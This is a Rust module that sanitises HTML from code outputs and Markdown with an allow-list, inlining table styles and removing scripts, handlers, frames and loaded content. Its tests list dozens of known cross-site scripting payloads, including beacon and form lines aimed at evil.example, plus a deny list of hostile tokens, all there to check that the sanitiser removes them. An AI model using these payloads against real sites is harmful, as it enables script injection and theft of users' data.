//! HTML from code -> HTML safe to show: no scripts, handlers, forms or frames, nothing that is loaded.
//!
//! ammonia works by an allow-list. Ours is its own list without anything that loads, plus the styles of tables:
//! colours, alignment, weight. A page's content security policy is a second defence.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::Builder;

/// Maximum bytes of HTML; more would slow a browser down.
const LONGEST: usize = 8 << 20;
/// Maximum nesting: parsers take quadratic time in it.
const DEEPEST: usize = 512;

/// The safe part of some HTML.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Safe {
    /// This.
    Html(String),
    /// Nothing is left: all of it was scripts or loaded content.
    Nothing,
    /// Nothing: it is too large.
    TooLarge,
}

/// Sanitises an output's HTML. Style sheet rules for single elements, as pandas' Styler writes them, become inline
/// styles.
pub(super) fn output(html: &str) -> Safe {
    if html.len() > LONGEST || depth(html) > DEEPEST {
        return Safe::TooLarge;
    }
    let inlined = inline_styles(html);
    let safe = RULES.clean(&inlined).to_string();
    if shows_something(&safe) {
        Safe::Html(safe)
    } else {
        Safe::Nothing
    }
}

/// Whether scripts or frames draw the visible content.
pub(super) fn is_drawn(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    ["<script", "<iframe", "<canvas", "<object", "<embed"]
        .iter()
        .any(|tag| lower.contains(tag))
}

/// Sanitises HTML rendered from Markdown.
pub(super) fn markdown(html: &str) -> String {
    if html.len() > LONGEST || depth(html) > DEEPEST {
        return "<p>(text that is too large to be shown)</p>".to_owned();
    }
    RULES.clean(html).to_string()
}

static RULES: LazyLock<Builder<'static>> = LazyLock::new(rules);

fn rules() -> Builder<'static> {
    let mut rules = Builder::default();
    rules
        .rm_tags([
            "map", "area", "article", "aside", "footer", "header", "hgroup", "nav",
        ])
        .add_clean_content_tags([
            "svg", "math", "iframe", "object", "noscript", "template", "title", "head", "select",
            "textarea", "button", "video", "audio", "canvas",
        ])
        .generic_attributes(HashSet::from(["title", "style"]))
        .url_schemes(HashSet::from(["http", "https", "mailto", "data"]))
        .allowed_classes(classes())
        .attribute_filter(attribute_of);
    rules
}

/// Our own classes; others would match nothing in our style sheet.
fn classes() -> HashMap<&'static str, HashSet<&'static str>> {
    let code = [
        "h-c", "h-s", "h-n", "h-k", "h-v", "h-f", "h-d", "math", "missing",
    ];
    HashMap::from([
        ("span", HashSet::from(code)),
        ("code", HashSet::from(["math"])),
        ("table", HashSet::from(["dataframe"])),
    ])
}

fn attribute_of<'v>(element: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match (element, attribute) {
        ("img", "src") => is_picture(value).then_some(Cow::Borrowed(value)),
        (_, "src" | "srcset" | "cite" | "background") => None,
        (_, "href") => is_link(value).then_some(Cow::Borrowed(value)),
        (_, "style") => {
            let kept = declarations(value);
            (!kept.is_empty()).then_some(Cow::Owned(kept))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Whether a picture is embedded in the page.
pub(super) fn is_picture(url: &str) -> bool {
    [
        "png", "jpeg", "jpg", "gif", "webp", "svg+xml", "bmp", "avif",
    ]
    .iter()
    .any(|kind| {
        url.strip_prefix("data:image/")
            .and_then(|rest| rest.strip_prefix(kind))
            .is_some_and(|rest| rest.starts_with([';', ',']))
    })
}

/// Whether a link leads to the web, to an anchor in the page, or to a file beside it.
fn is_link(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    ["http://", "https://", "mailto:", "#"]
        .iter()
        .any(|start| lower.starts_with(start))
        || !lower.contains([':', '\\']) && !lower.starts_with("//")
}

/// Properties used by tables and coloured text. None of them moves, hides or loads anything.
const PROPERTIES: [&str; 22] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-right",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "max-width",
    "min-width",
    "padding",
    "text-align",
    "text-decoration",
    "vertical-align",
    "width",
];

/// The allowed declarations of a style.
fn declarations(style: &str) -> String {
    let kept = style.split(';').filter_map(|declaration| {
        let (name, value) = declaration.split_once(':')?;
        let name = name.trim().to_ascii_lowercase();
        let value = value.trim();
        let plain = |c: char| {
            c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    ' ' | '#' | '.' | ',' | '%' | '-' | '+' | '(' | ')' | '!' | '"'
                )
        };
        let lower = value.to_ascii_lowercase();
        let is_harmless = PROPERTIES.contains(&&*name)
            && value.len() <= 120
            && !value.contains('"')
            && value.chars().all(plain)
            && lower.matches('(').all(|_| {
                ["rgb(", "rgba(", "hsl(", "hsla("]
                    .iter()
                    .any(|f| lower.starts_with(f))
            });
        is_harmless.then(|| format!("{name}:{value}"))
    });
    kept.collect::<Vec<_>>().join(";")
}

/// Whether anything visible is left.
fn shows_something(html: &str) -> bool {
    if html.contains("<img") && html.contains("src=\"data:") {
        return true;
    }
    let mut inside = false;
    html.replace("&nbsp;", " ").chars().any(|c| {
        match c {
            '<' => inside = true,
            '>' => {
                inside = false;
                return false;
            }
            _ => {}
        }
        !inside && !c.is_whitespace() && c != '\u{a0}'
    })
}

/// Approximate maximum nesting: elements without end tags do not count.
fn depth(html: &str) -> usize {
    const VOID: [&str; 16] = [
        "br", "img", "hr", "input", "meta", "link", "col", "wbr", "area", "p", "li", "td", "th",
        "tr", "dt", "dd",
    ];
    let (mut now, mut most) = (0_usize, 0);
    for piece in html.split('<').skip(1) {
        let end = |c: char| !c.is_ascii_alphanumeric();
        if let Some(name) = piece.strip_prefix('/') {
            let name = name.split(end).next().unwrap_or_default();
            if !VOID.contains(&&*name.to_ascii_lowercase()) {
                now = now.saturating_sub(1);
            }
        } else if piece.starts_with(|c: char| c.is_ascii_alphabetic()) {
            let name = piece.split(end).next().unwrap_or_default();
            let closed = piece
                .split('>')
                .next()
                .is_some_and(|tag| tag.ends_with('/'));
            if !closed && !VOID.contains(&&*name.to_ascii_lowercase()) {
                now += 1;
                most = most.max(now);
            }
        }
    }
    most
}

/// Moves `#id { .. }` rules from style sheets into the elements' style attributes.
fn inline_styles(html: &str) -> Cow<'_, str> {
    let mut styles: HashMap<&str, String> = HashMap::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once("<style") {
        let Some((sheet, later)) = after
            .split_once('>')
            .and_then(|(_, inner)| inner.split_once("</style"))
        else {
            break;
        };
        rest = later;
        for rule in sheet.split('}') {
            let Some((selectors, body)) = rule.split_once('{') else {
                continue;
            };
            let body = declarations(&body.replace('\n', " "));
            for id in selectors
                .split(',')
                .filter_map(|one| one.trim().strip_prefix('#'))
            {
                if !id.is_empty()
                    && id
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
                {
                    let style = styles.entry(id).or_default();
                    style.push_str(&body);
                    style.push(';');
                }
            }
        }
    }
    if styles.is_empty() {
        return Cow::Borrowed(html);
    }
    let mut out = String::with_capacity(html.len() + html.len() / 4);
    let mut rest = html;
    while let Some((before, after)) = rest.split_once(" id=\"") {
        out.push_str(before);
        let Some((id, later)) = after.split_once('"') else {
            rest = after;
            break;
        };
        if let Some(style) = styles.get(id) {
            out.push_str(" style=\"");
            out.push_str(style);
            out.push('"');
        }
        rest = later;
    }
    out.push_str(rest);
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Known attacks with HTML: all of them are removed, and the text beside them is kept.
    #[test]
    fn hostile_html_does_nothing() {
        let cases = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src='data:image/png;base64,AA' onload=alert(1)>",
            "<img src=https://evil.example/beacon.png>",
            "<img src=//evil.example/beacon.png srcset='https://evil.example/2x.png 2x'>",
            "<img src=data:text/html;base64,PHNjcmlwdD4=>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href='JaVaScRiPt:alert(1)'>x</a>",
            "<a href='java\nscript:alert(1)'>x</a>",
            "<a href='&#106;avascript:alert(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='vbscript:x'>x</a>",
            "<a href='#' ping='https://evil.example' onclick=alert(1) target=_top>x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<style>body{background:url(https://evil.example/x)}</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=https://evil.example/x.swf></object><embed src=x>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
            "<div style='background:url(https://evil.example/x)'>x</div>",
            "<div style='background-color:expression(alert(1));position:fixed;top:0'>x</div>",
            "<div style='color:red;width:calc(1px)'>x</div>",
            "<div style='background-color:u\\72l(https://evil.example)'>x</div>",
            "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
            "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=https://evil.example/a></audio>",
            "<body onload=alert(1)><b>x</b></body>",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<x-element onfocus=alert(1) tabindex=0 autofocus>x</x-element>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><script>alert(1)</script></template>",
            "<div class='bubble assistant' id='main'>x</div>",
            "<blockquote cite='https://evil.example'>x</blockquote>",
        ];
        let bad = [
            "script",
            "evil",
            "onerror",
            "onload",
            "onclick",
            "ontoggle",
            "onfocus",
            "alert",
            "url(",
            "expression",
            "position",
            "iframe",
            "<svg",
            "<style",
            "<form",
            "<input",
            "<object",
            "<embed",
            "<meta",
            "<base",
            "<link",
            "class=",
            "id=",
            "vbscript",
            "text/html",
            "calc",
        ];
        for case in cases {
            let html = match output(case) {
                Safe::Html(html) => html,
                Safe::Nothing => String::new(),
                Safe::TooLarge => panic!("{case}"),
            };
            for html in [html, markdown(case)] {
                // A `<` that starts no tag is plain text.
                let tags = html.split('<').skip(1);
                let tags = tags.map(|tag| format!("<{} ", tag.split('>').next().unwrap_or(tag)));
                let tags = tags.collect::<String>().to_lowercase();
                let found: Vec<_> = bad.iter().filter(|bad| tags.contains(**bad)).collect();
                assert!(found.is_empty(), "{case}\n  gives {html}\n  with {found:?}");
            }
        }
    }

    #[test]
    fn tables_and_colours_stay() {
        let table = "<div>\n<style scoped>\n    .dataframe tbody tr th { vertical-align: top; }\n</style>\n\
                     <table border=\"1\" class=\"dataframe\"><thead><tr style=\"text-align: right;\"><th>a</th></tr></thead>\
                     <tbody><tr><td>1</td></tr></tbody></table></div>";
        let expected = "<div>\n\n<table class=\"dataframe\"><thead><tr style=\"text-align:right\"><th>a</th></tr></thead>\
                        <tbody><tr><td>1</td></tr></tbody></table></div>";
        assert_eq!(output(table), Safe::Html(expected.to_owned()));
        let styler = "<style type=\"text/css\">\n#T_1_row0_col0, #T_1_row1_col0 {\n  background-color: #fff7fb;\n  color: #000000;\n}\n\
                      #T_1 th { color: red }\n</style>\n<table id=\"T_1\"><tbody><tr><td id=\"T_1_row0_col0\" class=\"data\" >1</td></tr></tbody></table>";
        let expected = "\n<table><tbody><tr><td style=\"background-color:#fff7fb;color:#000000\">1</td></tr></tbody></table>";
        assert_eq!(output(styler), Safe::Html(expected.to_owned()));
    }

    #[test]
    fn what_shows_nothing_is_nothing() {
        for html in [
            "",
            " \n",
            "<div id=\"vis\"></div><script>draw()</script>",
            "<br>&nbsp;",
            "<img src=\"x.png\">",
        ] {
            assert_eq!(output(html), Safe::Nothing, "{html}");
        }
        let deep = "<div>".repeat(100_000) + "x";
        assert_eq!(output(&deep), Safe::TooLarge);
        assert_eq!(output(&"x".repeat(LONGEST + 1)), Safe::TooLarge);
        let many = "<p>x<br>".repeat(2_000);
        assert!(matches!(output(&many), Safe::Html(_)));
    }
}
